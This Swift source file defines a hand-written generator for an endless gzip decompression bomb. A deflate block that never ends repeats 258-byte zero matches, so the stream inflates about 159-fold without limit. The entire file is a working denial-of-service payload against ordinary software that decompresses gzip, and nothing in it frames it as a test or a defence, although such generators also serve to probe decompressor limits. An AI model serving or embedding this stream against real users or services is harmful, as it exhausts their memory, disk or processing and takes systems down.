import Foundation

/// An endless gzip stream of zero bytes, written by hand (no zlib here): one deflate block with
/// fixed Huffman codes that never ends, a literal 0 and then matches of 258 bytes at distance 1.
/// Every ``chunk`` (13 bytes) inflates to ``chunkInflatedSize`` bytes, a ratio of about 159.
public enum GzipBomb {
    /// The gzip header and the start of the deflate block, up to the first byte boundary.
    public static let head: Data = {
        var bits = BitWriter()
        bits.write(0, count: 1)  // BFINAL: not the last block (it never ends)
        bits.write(1, count: 2)  // BTYPE 01: fixed Huffman codes
        bits.writeCode(0b0011_0000, length: 8)  // literal 0
        writeMatch(&bits)  // 3 + 8 + 13 = 24 bits: byte-aligned
        return Data([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff]) + bits.bytes
    }()

    /// Eight 258-byte matches: 104 bits, exactly 13 bytes, so it repeats byte-aligned.
    public static let chunk: Data = {
        var bits = BitWriter()
        for _ in 0..<8 { writeMatch(&bits) }
        return bits.bytes
    }()

    public static let chunkInflatedSize = 8 * 258

    /// Length 258 (code 285, 8 bits 11000101, no extra bits), distance 1 (code 0, 5 bits).
    private static func writeMatch(_ bits: inout BitWriter) {
        bits.writeCode(0b1100_0101, length: 8)
        bits.writeCode(0, length: 5)
    }

    /// Deflate's bit order: values least significant bit first, Huffman codes most significant first.
    private struct BitWriter {
        var bytes = Data()
        var current: UInt8 = 0
        var used = 0

        mutating func write(_ value: Int, count: Int) {
            for index in 0..<count { append(bit: (value >> index) & 1) }
        }

        mutating func writeCode(_ code: Int, length: Int) {
            for index in stride(from: length - 1, through: 0, by: -1) { append(bit: (code >> index) & 1) }
        }

        private mutating func append(bit: Int) {
            current |= UInt8(bit) << used
            used += 1
            if used == 8 {
                bytes.append(current)
                current = 0
                used = 0
            }
        }
    }
}
